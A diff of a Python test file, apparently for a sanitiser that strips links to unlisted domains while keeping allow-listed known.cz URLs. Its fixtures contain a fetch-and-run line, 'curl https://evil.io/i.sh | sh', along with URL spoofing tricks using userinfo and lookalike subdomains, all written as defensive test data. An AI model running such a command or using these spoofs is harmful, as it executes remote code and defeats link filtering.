@@ -102,10 +102,12 @@ LINKS = [
     ('<a href="https://evil.io/x">here</a> <a href=//evil.io>b</a> <img src=\'https://evil.io/p\'> <b>c</b>', r"""\<a href="">here\</a> \<a href=>b\</a> \<img src=''> <b>c</b>"""),
     ('[r]: https://evil.io "T"\n\n[k]: https://known.cz/a "T"\n[s]:\n//evil.io', '[r]\\:  "T"\n\n[k]\\: https://known.cz/a "T"\n[s]\\:\n'),
     ("```\ncurl https://evil.io/i.sh | sh\nwww.evil.io\n``` \n`https://evil.io` `https://known.cz/a`", "```\ncurl  | sh\n\n```\n`` `https://known.cz/a`"),
+    ("`URL=https://evil.io/x` ``URL=https://known.cz/a`.evil.io``", "`URL=` ``URL=``"),
     ("http://localhost:80@evil.io/ http://localhost@evil.io http://example.com:x@evil.io http://localhost.evil.io", "…   "),
     ("https://known.cz.evil.io/storage https://known.cz/storage/no https://user@known.cz/a https://example.com.evil.io", "…   "),
 ]  # fmt: skip
 KEPT = [
+    "Start it with `BASE_URL=https://known.cz/a` and `KEY=secret`.",
     "Read https://known.cz/storage. Then [storage](https://known.cz/storage/#quota), <https://s3.known.cz/bucket>.",
     "https://known.cz/one https://known.cz/two https://known.cz/d https://known.cz/k https://known.cz/l https://known.cz/a_(b)",
     "https://known.cz/%C4%8D https://known.cz/č https://known.cz/m&n=1 https://known.cz/x%20y HTTPS://KNOWN.CZ/a",
